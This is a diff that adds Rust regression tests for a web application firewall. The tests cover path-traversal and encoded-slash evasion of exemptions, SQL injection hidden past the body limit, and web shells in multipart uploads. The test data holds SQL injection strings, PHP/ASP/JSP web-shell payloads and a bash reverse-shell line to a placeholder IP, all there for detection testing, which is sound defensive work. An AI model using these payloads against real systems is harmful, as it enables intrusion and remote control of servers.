@@ -1,0 +1,301 @@
+//! Regressions for the holes an attacker found in the HTTP layer: dot
+//! segments and encoded slashes into exempt paths and exclusions, attacks
+//! past `max_body`, web shells in multipart file parts, request-smuggling
+//! framing. Each test states the hole it closes. No root needed.
+
+use waf_user::detect::{Action, DetectConfig, Engine, Exclusion, Kind, Verdict};
+use waf_user::http::{BodyMeter, CanonicalPath, Limits, Request, counted_len};
+
+const UA: &str =
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0";
+const SQLI: &str = "id=1%27%20union%20select%20password%20from%20users--";
+
+fn headers(extra: &[(&str, &str)]) -> Vec<(String, String)> {
+    let mut h = vec![
+        ("Host".to_owned(), "app.example".to_owned()),
+        ("User-Agent".to_owned(), UA.to_owned()),
+        ("Accept".to_owned(), "*/*".to_owned()),
+    ];
+    h.extend(
+        extra
+            .iter()
+            .map(|(n, v)| ((*n).to_owned(), (*v).to_owned())),
+    );
+    h
+}
+
+fn get(e: &Engine, target: &str) -> Verdict {
+    let req =
+        Request::from_parts("GET", target, headers(&[]), Vec::new(), e.limits()).expect("request");
+    e.inspect(&req, None)
+}
+
+fn exempting_engine() -> Engine {
+    Engine::new(&DetectConfig {
+        exempt_paths: vec!["/health".into(), "/favicon.ico".into(), "/static/*".into()],
+        ..Default::default()
+    })
+    .expect("engine")
+}
+
+fn rules(v: &Verdict) -> Vec<&str> {
+    v.attacks.iter().map(|f| f.rule.as_str()).collect()
+}
+
+#[test]
+fn dot_segments_into_an_exempt_glob_are_not_exempt() {
+    let e = exempting_engine();
+    // The exemption itself still works.
+    assert_eq!(
+        get(&e, &format!("/static/app.js?{SQLI}")).action,
+        Action::Pass
+    );
+    for path in [
+        "/static/../login",
+        "/static/%2e%2e/login",
+        "/static/.%2e/login",
+        "/static/%2E%2e/login",
+        "/static/%2e./login",
+        "/static/..%2flogin",
+        "/static%2f..%2flogin",
+        "/static/..%5clogin",
+        "/static/..%5Clogin",
+        "/static\\..\\login",
+        "/static/..;/login",
+        "/static;x=1/../login",
+        "/static/%252e%252e/login",
+        "/static/%252e%252e%252flogin",
+        "/static/./../login",
+        "/static//../../login",
+        "/static/../../../login",
+        "/static/%c0%ae%c0%ae/login",
+        "/static/%u002e%u002e/login",
+        "/static/x.css%00/../../login",
+        "http://app.example/static/../login",
+    ] {
+        let target = format!("{path}?{SQLI}");
+        let req = Request::from_parts("GET", &target, headers(&[]), Vec::new(), e.limits())
+            .expect("request");
+        assert!(!e.exempt(&req), "{path} must not be exempt");
+        assert!(
+            !e.exempt_path(&CanonicalPath::from_target(&target)),
+            "{path}"
+        );
+        let v = e.inspect(&req, None);
+        assert_eq!(v.action, Action::Block, "{path}: {v:?}");
+    }
+    assert_eq!(
+        CanonicalPath::from_target("/static/../login").path,
+        "/login"
+    );
+}
+
+#[test]
+fn suffix_exemptions_do_not_cover_scripts() {
+    let e = Engine::new(&DetectConfig {
+        exempt_paths: vec!["*.css".into(), "/static/*".into()],
+        ..Default::default()
+    })
+    .expect("engine");
+    assert_eq!(
+        get(&e, &format!("/site/main.css?{SQLI}")).action,
+        Action::Pass
+    );
+    for path in [
+        "/login.php/x.css",
+        "/login.PHP/x.css",
+        "/login.php%00.css",
+        "/login.php;.css",
+        "/login.php%3b.css",
+        "/login.php/.css",
+        "/static/.. /login",
+        "/static/.../login",
+        "/static/x/login.aspx./y.css",
+    ] {
+        let v = get(&e, &format!("{path}?{SQLI}"));
+        assert_eq!(v.action, Action::Block, "{path}: {v:?}");
+    }
+}
+
+#[test]
+fn an_encoded_slash_voids_exclusions_and_is_a_finding() {
+    let cfg = DetectConfig {
+        exclusions: vec![Exclusion {
+            path: Some("/cms/*".into()),
+            kind: Some(Kind::Sqli),
+            ..Default::default()
+        }],
+        ..Default::default()
+    };
+    let e = Engine::new(&cfg).expect("engine");
+    let v = get(&e, &format!("/cms/page?{SQLI}"));
+    assert!(!v.attacks.iter().any(|f| f.kind == Kind::Sqli), "{v:?}");
+    for path in [
+        "/cms%2fpage",
+        "/cms%2Fpage",
+        "/cms/..%2fcms/page",
+        "/cms%252fpage",
+    ] {
+        let v = get(&e, &format!("{path}?{SQLI}"));
+        assert_eq!(v.action, Action::Block, "{path}: {v:?}");
+        assert!(v.attacks.iter().any(|f| f.kind == Kind::Sqli), "{path}");
+        assert!(rules(&v).contains(&"protocol-path-encoded-slash"), "{path}");
+    }
+    let v = get(&e, &format!("/../cms/page?{SQLI}"));
+    assert!(rules(&v).contains(&"protocol-path-above-root"), "{v:?}");
+    assert!(v.attacks.iter().any(|f| f.kind == Kind::Sqli));
+}
+
+#[test]
+fn path_evasion_blocks_alone_only_from_paranoia_2() {
+    let pl1 = Engine::new(&DetectConfig::default()).expect("engine");
+    let pl2 = Engine::new(&DetectConfig {
+        paranoia: 2,
+        ..Default::default()
+    })
+    .expect("engine");
+    let v = get(&pl1, "/api/repos/a%2Fb");
+    assert_eq!(v.action, Action::Pass, "{v:?}");
+    assert_eq!(rules(&v), ["protocol-path-encoded-slash"]);
+    let f = &v.attacks[0];
+    assert_eq!(
+        (f.matched.as_str(), f.value.as_str()),
+        ("/api/repos/a/b", "/api/repos/a%2Fb")
+    );
+    assert_eq!(get(&pl2, "/api/repos/a%2Fb").action, Action::Block);
+    assert_eq!(get(&pl1, "/api/repos/a/b").action, Action::Pass);
+}
+
+#[test]
+fn an_attack_past_max_body_is_flagged_partial() {
+    let limits = Limits {
+        max_body: 4096,
+        ..Limits::default()
+    };
+    let e = Engine::new(&DetectConfig {
+        limits: limits.clone(),
+        ..Default::default()
+    })
+    .expect("engine");
+    let mut body = format!("pad={}", "a".repeat(5000)).into_bytes();
+    body.extend_from_slice(b"&q=1' union select password from users--");
+    let ct = [("Content-Type", "application/x-www-form-urlencoded")];
+    // The proxy gave the whole body.
+    let req = Request::from_parts("POST", "/login", headers(&ct), body.clone(), &limits)
+        .expect("request");
+    assert_eq!(req.body_len, body.len());
+    assert!(req.body_truncated);
+    let v = e.inspect(&req, None);
+    assert!(v.partial, "{v:?}");
+    assert!(rules(&v).contains(&"protocol-body-truncated"), "{v:?}");
+    // The proxy stopped at the limit: the declared length is the real one.
+    let cl = body.len().to_string();
+    let ct_cl = [
+        ("Content-Type", "application/x-www-form-urlencoded"),
+        ("Content-Length", cl.as_str()),
+    ];
+    let req = Request::from_parts_partial(
+        "POST",
+        "/login",
+        headers(&ct_cl),
+        body[..4096].to_vec(),
+        &limits,
+    )
+    .expect("request");
+    assert_eq!(req.body_len, body.len());
+    assert!(e.inspect(&req, None).partial);
+    // A caller that passes the prefix as if it were whole (the proxy before
+    // it knew `from_parts_partial`) is caught by the Content-Length.
+    let req = Request::from_parts(
+        "POST",
+        "/login",
+        headers(&ct_cl),
+        body[..4096].to_vec(),
+        &limits,
+    )
+    .expect("request");
+    assert_eq!(req.body_len, body.len());
+    assert!(e.inspect(&req, None).partial);
+    // From raw bytes too.
+    let mut raw = format!(
+        "POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n",
+        body.len()
+    )
+    .into_bytes();
+    raw.extend_from_slice(&body);
+    let req = Request::parse(&raw, &limits).expect("request");
+    assert_eq!((req.body.len(), req.body_len), (4096, body.len()));
+    assert!(e.inspect(&req, None).partial);
+    // The meter tells the proxy the body is over the limit.
+    let mut meter = BodyMeter::new(Some("application/x-www-form-urlencoded"), &limits);
+    assert!(meter.over_limit(&body));
+    // Within the limit: not partial.
+    let req = Request::from_parts("POST", "/login", headers(&ct), b"a=1".to_vec(), &limits)
+        .expect("request");
+    assert!(!e.inspect(&req, None).partial);
+}
+
+fn multipart(filename: &str, content: &[u8]) -> Vec<u8> {
+    let mut body = format!(
+        "--XyZ\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"{filename}\"\r\nContent-Type: image/jpeg\r\n\r\n"
+    )
+    .into_bytes();
+    body.extend_from_slice(content);
+    body.extend_from_slice(
+        b"\r\n--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n--XyZ--\r\n",
+    );
+    body
+}
+
+fn upload(e: &Engine, filename: &str, content: &[u8]) -> Verdict {
+    let ct = [("Content-Type", "multipart/form-data; boundary=XyZ")];
+    let req = Request::from_parts(
+        "POST",
+        "/upload",
+        headers(&ct),
+        multipart(filename, content),
+        e.limits(),
+    )
+    .expect("request");
+    e.inspect(&req, None)
+}
+
+#[test]
+fn a_web_shell_in_a_file_part_is_found() {
+    let e = Engine::new(&DetectConfig::default()).expect("engine");
+    let jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00";
+    assert_eq!(upload(&e, "holiday.jpg", jpeg).action, Action::Pass);
+    for (name, content) in [
+        ("x.php", &b"<?php system($_GET['c']); ?>"[..]),
+        ("avatar.jpg", b"GIF89a<?php eval($_POST['x']); ?>"),
+        ("avatar.jpg", b"GIF89a<?= `$_GET[c]` ?>"),
+        ("avatar.jpg", b"<% eval request(\"x\") %>"),
+        ("avatar.jpg", b"<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
+        ("avatar.jpg", b"<script runat=\"server\" language=\"c#\">Response.Write(1)</script>"),
+        ("avatar.jpg", b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"),
+    ] {
+        let v = upload(&e, name, content);
+        assert_eq!(v.action, Action::Block, "{name}: {v:?}");
+        assert!(
+            v.attacks.iter().any(|f| f.location.starts_with("file:")),
+            "{name}: the file content must be a finding: {v:?}"
+        );
+    }
+    // A shell appended after a large image is read in the file's tail; the
+    // file does not count against max_body.
+    let mut big = vec![0xffu8; 300 * 1024];
+    big.extend_from_slice(b"<?php system($_GET['c']); ?>");
+    let v = upload(&e, "avatar.jpg", &big);
+    assert_eq!(v.action, Action::Block, "{v:?}");
+    assert!(
+        v.attacks.iter().any(|f| f.location == "file:upload(tail)"),
+        "{v:?}"
+    );
+    let limits = Limits {
+        max_body: 1024,
+        ..Limits::default()
+    };
+    let body = multipart("avatar.jpg", &big);
+    let counted = counted_len(Some("multipart/form-data; boundary=XyZ"), &body, &limits);
+    assert!(counted < 1024, "{counted}");
+}
